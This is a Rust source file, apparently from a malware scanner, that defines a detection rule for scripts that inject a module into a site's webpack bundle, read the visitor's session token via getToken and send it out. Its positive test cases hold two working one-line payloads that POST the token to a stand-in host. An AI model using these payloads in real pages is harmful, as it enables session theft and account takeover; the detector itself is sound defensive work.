//! `session-taken-from-modules`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "session-taken-from-modules",
    description: "The script adds a module to a site's own modules, reads the visitor's session key and sends it out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SessionGetter]), one(&[Atom::SentAbroad, Atom::DropBox])],
    within: 160,
    only_if: Some(takes),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"let t=(webpackChunksite_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken!==void 0).exports.default.getToken();fetch('https://c.example/t',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:t})})"#,
            r#"webpackChunksite.push([[Symbol()],{},r=>{for(const m of Object.keys(r.c).map(x=>r.c[x].exports).filter(x=>x)){if(m.default&&m.default.getToken!==undefined){fetch('https://c.example/t',{method:'POST',body:m.default.getToken()})}}}])"#,
        ],
        without: &[
            r#"const t=auth.getToken();fetch('https://api.example/me',{headers:{authorization:t}})"#,
            r#"webpackChunksite.push([[7],{7:(m,x,r)=>{const a=r(3);a.getToken().then(t=>fetch('https://api.example/me',{headers:{authorization:t}}))}}])"#,
        ],
    },
};

fn takes(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 120);
    let called = near.words(&["getToken"]).any(|at| near.is(at + 1, b'('));
    let pushed = near.words(&["push"]).any(|at| {
        let chunks = near.before(at, 1);
        // A module that is compiled in has a number and a function by that number; one that is put in has neither.
        (chunks.starts_with("webpackChunk") || chunks.starts_with("webpackJsonp"))
            && near.is(at + 2, b'[')
            && (at + 3..at + 14).any(|at| near.is(at, b'{') && near.is(at + 1, b'}'))
    });
    // Looking through all modules: `e.c`, `exports`.
    called && pushed && near.has_word(&["exports"])
}
